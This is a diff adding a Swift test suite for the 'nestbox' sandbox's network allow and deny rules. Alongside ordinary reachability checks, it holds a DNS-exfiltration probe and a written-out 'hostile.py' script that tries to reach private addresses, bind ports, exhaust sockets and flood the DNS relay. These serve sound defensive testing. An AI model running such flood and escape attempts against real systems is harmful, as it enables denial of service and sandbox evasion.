@@ -1,0 +1,359 @@
+// SPDX-License-Identifier: Apache-2.0
+// --net-allow with real programs, on a machine whose internet is one other host (Programs/world.sh).
+
+import Foundation
+import TestSupport
+import Testing
+
+@Suite("Network by name", .needs("python3"), .needs("ip"), .needs("curl"))
+struct NetworkTests {
+  /// Runs a script on that machine; `box` starts nestbox with the host's files, as another user.
+  private func run(_ script: String, _ arguments: String...) throws -> Outcome {
+    let session = try Session()
+    for name in ["world.sh", "internet.py"] {
+      try session.write(
+        name, String(contentsOfFile: ProfileTests.programs + "/" + name, encoding: .utf8))
+    }
+    try session.write(
+      "script",
+      """
+      box() { nestbox --unshare-user --unshare-pid --ro-bind / / --dev /dev --proc /proc "$@"; }
+      get() { curl --silent --show-error --max-time 20 "$@"; }
+      """ + "\n" + script)
+    return try session.run(
+      "bash world.sh bash script " + arguments.joined(separator: " "))
+  }
+
+  // Red: a program cannot reach what was named.
+  @Test(
+    "Programs reach a host that a rule names",
+    arguments: [
+      ("web.test", "get http://web.test/", "web.test ::ffff:203.0.113.7"),
+      ("web.test", "get http://WEB.test./", "WEB.test. ::ffff:203.0.113.7"),
+      ("web.test", "get -4 http://web.test/", "web.test ::ffff:203.0.113.7"),
+      ("web.test", "get -6 http://web.test/", "web.test ::ffff:203.0.113.7"),
+      ("six.test", "get http://six.test/", "six.test 2001:db8:113::7"),
+      ("'*.web.test'", "get http://www.web.test/", "www.web.test ::ffff:203.0.113.7"),
+      ("web.test:8080", "get http://web.test:8080/", "web.test:8080 ::ffff:203.0.113.7"),
+      ("203.0.113.7", "get http://203.0.113.7/", "203.0.113.7 ::ffff:203.0.113.7"),
+      ("203.0.113.0/24", "get http://203.0.113.8/", "203.0.113.8 ::ffff:203.0.113.8"),
+      ("'*'", "get http://203.0.113.8/", "203.0.113.8 ::ffff:203.0.113.8"),
+      ("'*'", "get http://other.test/", "other.test ::ffff:203.0.113.8"),
+      ("hosts-file.test", "get http://hosts-file.test/", "hosts-file.test ::ffff:203.0.113.7"),
+      ("a.test:80=203.0.113.7:8080", "get http://a.test/", "a.test ::ffff:203.0.113.7"),
+      ("private.test@10.0.0.0/8", "get http://private.test/", "private.test ::ffff:10.113.0.7"),
+      // The first address does not answer.
+      ("two.test", "get http://two.test/", "two.test 2001:db8:113::7"),
+      (
+        "web.test",
+        "python3 -c 'import urllib.request as r; print(r.urlopen(\"http://web.test/\").read().decode().strip())'",
+        "web.test ::ffff:203.0.113.7"
+      ),
+    ])
+  func reached(_ rule: String, _ command: String, _ expected: String) throws {
+    let outcome = try run(
+      "export -f get; box --net-allow \(rule) bash -c '\(command.replacing("'", with: #"'\''"#))'")
+    let seen = outcome.output
+    // Either family may be taken where there are both.
+    let other = expected.replacing("::ffff:203.0.113.7", with: "2001:db8:113::7")
+    #expect(seen == expected || seen == other, "\(outcome)")
+    #expect(outcome.errors.isEmpty, "\(outcome)")
+  }
+
+  // Red: the command reaches what nobody named; or a program hangs where it should fail at once.
+  @Test(
+    "Everything else is refused, with a message and the rule that would allow it",
+    arguments: [
+      (
+        "web.test", "http://other.test/", "6",
+        "could not reach other.test; to allow it, add --net-allow other.test"
+      ),
+      ("web.test", "http://www.web.test/", "6", "add --net-allow www.web.test"),
+      ("web.test", "http://203.0.113.7/", "7", ""),
+      ("web.test", "http://[2001:db8:113::7]/", "7", ""),
+      ("web.test", "http://web.test:8080/", "7", ""),
+      (
+        "web.test --net-allow other.test:8080", "http://web.test:8080/", "7", ""
+      ),
+      (
+        "web.test --net-allow '*.x.test:8080'", "http://web.test:8080/", "7",
+        "add --net-allow web.test:8080"
+      ),
+      (
+        "rebind.test", "http://rebind.test/", "7",
+        "as the name leads to 127.0.0.1, a private address or one of this machine; to allow it, add "
+          + "--net-allow rebind.test@127.0.0.1"
+      ),
+      ("private.test", "http://private.test/", "7", "add --net-allow private.test@10.113.0.7"),
+      ("mapped.test", "http://mapped.test/", "7", "add --net-allow mapped.test@10.113.0.7"),
+      ("own.test", "http://own.test/", "7", "add --net-allow own.test@203.0.113.1"),
+      ("'*'", "http://10.113.0.7/", "7", "10.113.0.7:80, a private address"),
+      (
+        "'*'", "http://203.0.113.1/", "7",
+        "203.0.113.1:80, a private address or one of this machine"
+      ),
+      ("'*' --net-deny other.test", "http://other.test/", "6", "as --net-deny denies it"),
+      ("'*' --net-deny 203.0.113.8", "http://other.test/", "7", "as --net-deny denies it"),
+      ("'*' --net-deny web.test:80", "http://web.test/", "7", "as --net-deny denies it"),
+      ("none.test", "http://none.test/", "6", ""),
+      ("failing.test", "http://failing.test/", "6", ""),
+      ("web.test", "http://127.0.0.1/", "7", ""), ("web.test", "http://localhost/", "7", ""),
+      ("web.test", "http://198.18.77.77/", "7", ""),
+    ])
+  func refused(_ rules: String, _ address: String, _ status: String, _ message: String) throws {
+    let outcome = try run(
+      """
+      status=0
+      box --net-allow \(rules) curl --silent --max-time 20 '\(address)' || status=$?
+      # A reset may arrive while curl still connects, or later.
+      [ $status != 56 ] || status=7
+      echo $status
+      """)
+    #expect(outcome.output == status, "\(outcome)")
+    if message.isEmpty {
+      #expect(outcome.errors.isEmpty, "\(outcome)")
+    } else {
+      #expect(outcome.errors.contains(message), "\(outcome)")
+    }
+  }
+
+  // Red: a name that no rule covers carries data to a name server of the attacker.
+  @Test func `Only names of rules are asked for outside`() throws {
+    let outcome = try run(
+      """
+      box --net-allow web.test bash -c '
+        for name in secret.other.test web.test; do getent hosts $name >/dev/null; done
+        getent hosts $(printf "secret.%s" web.test) other.test'
+      cat /mnt/log
+      """)
+    let asked = Set(outcome.lines.filter { $0.hasPrefix("asked") })
+    #expect(asked == ["asked web.test 1", "asked web.test 28"], "\(outcome)")
+  }
+
+  // Red: a service of the host looks names up for the command, or its files send it past the relay.
+  @Test func `The sandbox has its own name service`() throws {
+    let outcome = try run(
+      """
+      [ -d /run/nscd ] || mount -t tmpfs tmpfs /run; mkdir -p /run/nscd
+      python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); s.bind("/run/nscd/socket")'
+      box --net-allow web.test bash -c '
+        cat /etc/resolv.conf; grep ^hosts: /etc/nsswitch.conf; grep -c 203 /etc/hosts
+        [ -S /run/nscd/socket ] && echo socket; ip -brief -4 address | sed "s/  */ /g"'
+      """)
+    #expect(
+      outcome.lines == [
+        "nameserver 198.18.0.53", "hosts: files dns", "0", "lo UNKNOWN 127.0.0.1/8 10.0.2.100/32 ",
+      ], "\(outcome)")
+  }
+
+  // Red: an upload is cut, a program waits for ever, or takes a part for the whole.
+  @Test func `Ends and resets pass in both directions`() throws {
+    let outcome = try run(
+      """
+      box --net-allow web.test:7,9,11 python3 -c '
+      import socket, struct
+      def connect(port): return socket.create_connection(("web.test", port), 20)
+      echo = connect(7); echo.sendall(b"x" * 1000000); echo.shutdown(socket.SHUT_WR)
+      print(sum(len(block) for block in iter(lambda: echo.recv(65536), b"")))
+      reset = connect(9); reset.send(b"x")
+      try: print(reset.recv(1))
+      except ConnectionResetError: print("reset")
+      watch = connect(11); watch.send(b"x"); watch.shutdown(socket.SHUT_WR); print(watch.recv(1))
+      watch = connect(11); watch.send(b"x")
+      import time; time.sleep(0.3)
+      watch.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0)); watch.close()
+      time.sleep(0.5)'
+      grep watched /mnt/log
+      """)
+    #expect(
+      outcome.lines == ["1000000", "reset", "b''", "watched end", "watched reset"], "\(outcome)")
+  }
+
+  // Red: datagrams are lost, or their answers come from another address, which programs drop.
+  @Test func `Datagrams and their answers pass where a rule names their port`() throws {
+    let outcome = try run(
+      """
+      box --net-allow web.test:443,4433/udp --net-allow six.test:443/udp --net-allow private.test:443/udp \
+        python3 -c '
+      import socket
+      def ask(name, port, data, family=0):
+        family, kind, _, _, address = socket.getaddrinfo(name, port, family, socket.SOCK_DGRAM)[0]
+        s = socket.socket(family, kind); s.settimeout(5); s.connect(address); s.send(data)
+        try: return s.recv(65535)
+        except OSError as error: return type(error).__name__
+      four, six = socket.AF_INET, socket.AF_INET6
+      print(ask("web.test", 443, b"a", four)[-1:], ask("web.test", 443, b"b", six)[-1:])
+      print(ask("six.test", 443, b"c", four))
+      print(len(ask("web.test", 4433, b"d" * 60000)) > 60000, ask("web.test", 4433, b"", four)[-1:])
+      print(ask("web.test", 80, b"e"))
+      one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); one.settimeout(5)
+      targets = [socket.getaddrinfo(name, 443, four)[0][4] for name in ("web.test", "six.test")]
+      for index, target in enumerate(targets): one.sendto(b"%d" % index, target)
+      print(sorted((address == targets[int(data[-1:])], data[-1:]) for data, address in (one.recvfrom(99), one.recvfrom(99))))
+      s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.5)
+      s.sendto(b"f", socket.getaddrinfo("private.test", 443, four)[0][4])
+      try: print(s.recv(9))
+      except TimeoutError: print("nothing")
+      for index in range(2000):
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"g", targets[0]); s.close()
+      print(ask("web.test", 443, b"h")[-1:])'
+      """)
+    #expect(
+      outcome.lines == [
+        "b'a' b'b'", "b'2001:db8:113::7 c'", "True b' '", "ConnectionRefusedError",
+        "[(True, b'0'), (True, b'1')]", "nothing", "b'h'",
+      ], "\(outcome)")
+    #expect(
+      outcome.errors.contains("add --net-allow private.test:443@10.113.0.7/udp"), "\(outcome)")
+  }
+
+  // Red: bytes are lost or the relay keeps them in its memory.
+  @Test func `Large transfers arrive whole, also to a slow reader and many at a time`() throws {
+    let outcome = try run(
+      """
+      box --net-allow web.test bash -c '
+        sum() { sha256sum | cut -c 1-16; }
+        curl -s http://web.test/bytes/200000000 | sum
+        curl -s --limit-rate 20M http://web.test/bytes/20000000 | sum
+        curl -s --parallel --parallel-max 200 "http://web.test/bytes/100000?[1-200]" | wc -c' &
+      relay() { pgrep -f "net-allow web[.]test" -n; }
+      wait
+      python3 -c '
+      import hashlib
+      for count in 200000000, 20000000:
+        block = bytes(range(256)) * 256
+        print(hashlib.sha256((block * (count // len(block) + 1))[:count]).hexdigest()[:16])'
+      """)
+    let lines = outcome.lines
+    try #require(lines.count == 5, "\(outcome)")
+    #expect(lines[0] == lines[3] && lines[1] == lines[4] && lines[2] == "20000000", "\(outcome)")
+  }
+
+  // Red: what a program sends last is lost, as the relay ends with it.
+  @Test(
+    "What a command has sent arrives after its end", arguments: ["--unshare-pid", "--unshare-ipc"])
+  func left(_ option: String) throws {
+    let outcome = try run(
+      """
+      nestbox --unshare-user --ro-bind / / \(option) --net-allow web.test:12 --net-allow web.test:13/udp python3 -c '
+      import socket, os
+      s = socket.create_connection(("web.test", 12)); s.sendall(b"x" * 3000000)
+      d = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+      d.sendto(b"last", socket.getaddrinfo("web.test", 13, socket.AF_INET)[0][4])
+      os._exit(0)'
+      for i in $(seq 100); do grep -q counted /mnt/log && grep -q datagram /mnt/log && break; sleep 0.05; done
+      grep -E "counted|datagram" /mnt/log | sort
+      for i in $(seq 100); do pgrep nestbox >/dev/null || break; sleep 0.05; done
+      pgrep -l nestbox
+      """)
+    #expect(outcome.lines == ["counted 3000000", "datagram last"], "\(outcome)")
+  }
+
+  // Red: a server of the command cannot use a port of its own localhost that a rule names.
+  @Test func `Localhost inside stays the command's`() throws {
+    let outcome = try run(
+      """
+      box --net-allow web.test:8080 python3 -c '
+      import socket
+      server = socket.create_server(("127.0.0.1", 8080))
+      client = socket.create_connection(("localhost", 8080)); print("own")
+      print(socket.create_connection(("web.test", 8080)).getpeername()[0][:7])'
+      """)
+    #expect(outcome.lines.first == "own" && outcome.lines.count == 2, "\(outcome)")
+  }
+
+  // Red: a hostile command steals a port of the relay's, makes it spin, or fills it for others.
+  @Test("A hostile command neither gets out nor stops the relay", arguments: ["", "--cap-add ALL"])
+  func hostile(_ option: String) throws {
+    let outcome = try run(
+      """
+      cat >/mnt/hostile.py <<'END'
+      import errno, os, resource, socket, struct, subprocess
+      def attempt(name, body):
+        try: body()
+        except OSError as error: return
+        print("succeeded:", name)
+      for address in "203.0.113.8", "10.113.0.7", "203.0.113.1", "127.0.0.1":
+        def reach(port=80):
+          s = socket.create_connection((address, port), 5); s.send(b"GET / HTTP/1.0\\r\\n\\r\\n")
+          if not s.recv(1): raise OSError
+        attempt("reach " + address, reach)
+      if not os.environ.get("CAPABLE"):
+        for port in 53, 80: attempt(f"bind {port}", lambda: socket.socket().bind(("", port)))
+      hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
+      resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 20000), hard))
+      held = []
+      for _ in range(3000):
+        s = socket.socket(); s.setblocking(False)
+        try: s.connect(("silent-web.test", 80))
+        except OSError: pass
+        held.append(s)
+      dns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+      for index in range(20000):
+        name = f"n{index}".encode()
+        dns.sendto(struct.pack(">6H", index & 0xffff, 256, 1, 0, 0, 0) + bytes([len(name)]) + name
+          + (b"\\4many" if index % 2 else b"") + b"\\4test\\0\\0\\1\\0\\1", ("198.18.0.53", 53))
+        dns.sendto(os.urandom(index % 600), ("198.18.0.53", 53))
+      streams = []
+      for _ in range(300):
+        s = socket.create_connection(("198.18.0.53", 53)); s.send(b"\\0"); streams.append(s)
+      for s in held + streams: s.close()
+      END
+      nestbox --unshare-user --unshare-pid --ro-bind / / --dev /dev --proc /proc \(option) \
+        --setenv CAPABLE "\(option)" --net-allow web.test --net-allow '*.many.test' \
+        --net-allow silent-web.test=203.0.113.250 bash -c '
+        python3 /mnt/hostile.py; sleep 5
+        curl -s --max-time 30 http://web.test/; echo $?' 2>/mnt/err &
+      monitor=$!
+      until relay=$(pgrep -P $monitor | head -n 1) && [ -n "$relay" ]; do sleep 0.05; done
+      while grep VmHWM /proc/$relay/status >/mnt/now 2>/dev/null; do cp /mnt/now /mnt/peak; sleep 0.2; done
+      awk '{print $2}' /mnt/peak
+      """)
+    #expect(outcome.lines.filter { $0.hasPrefix("succeeded") } == [], "\(outcome)")
+    #expect(outcome.lines.contains("0") && outcome.output.contains("web.test"), "\(outcome)")
+    let peak = try #require(Int(outcome.lines.last ?? ""), "\(outcome)")
+    #expect(peak < 20_000, "\(outcome)")
+  }
+
+  // Red: a process or a namespace is left behind, or the network opens when the relay is gone.
+  @Test("Nothing is left, whatever is killed", arguments: ["relay", "monitor", "command"])
+  func killed(_ victim: String) throws {
+    let outcome = try run(
+      """
+      mkfifo hold; chmod 666 hold
+      nestbox --unshare-user --unshare-pid --die-with-parent --ro-bind / / --net-allow web.test \
+        sh -c 'echo up; cat hold; getent hosts web.test || echo no name; curl -s http://203.0.113.7/ || echo no address' \
+        >out 2>err &
+      monitor=$!
+      exec 3<>hold
+      while ! grep -q up out; do sleep 0.05; done
+      relay=$(pgrep -P $monitor | head -n 1); command=$(pgrep -x cat | head -n 1)
+      case \(victim) in
+        relay) kill -9 $relay; sleep 0.3; echo go >hold & exec 3>&- ;;
+        monitor) kill -9 $monitor ;;
+        command) kill -9 $command; exec 3>&- ;;
+      esac
+      wait $monitor
+      for i in $(seq 100); do pgrep nestbox >/dev/null || break; sleep 0.05; done
+      pgrep -l nestbox
+      cat out; grep -c 'relay has ended' err
+      """)
+    switch victim {
+    case "relay":
+      #expect(outcome.lines == ["up", "go", "no name", "no address", "1"], "\(outcome)")
+    case "monitor": #expect(outcome.lines == ["up", "0"], "\(outcome)")
+    default: #expect(outcome.lines.first == "up" && outcome.lines.last == "0", "\(outcome)")
+    }
+  }
+
+  // Red: a launch fails without IPv6, which many machines have switched off.
+  @Test func `Without IPv6 names have addresses of IPv4 alone`() throws {
+    let outcome = try run(
+      """
+      echo 1 >/proc/sys/net/ipv6/conf/all/disable_ipv6; echo 1 >/proc/sys/net/ipv6/conf/default/disable_ipv6
+      box --net-allow web.test bash -c 'curl -s http://web.test/; getent ahosts web.test | cut -d. -f1 | sort -u'
+      """)
+    #expect(
+      outcome.lines.first == "web.test ::ffff:203.0.113.7", "\(outcome)")
+  }
+}
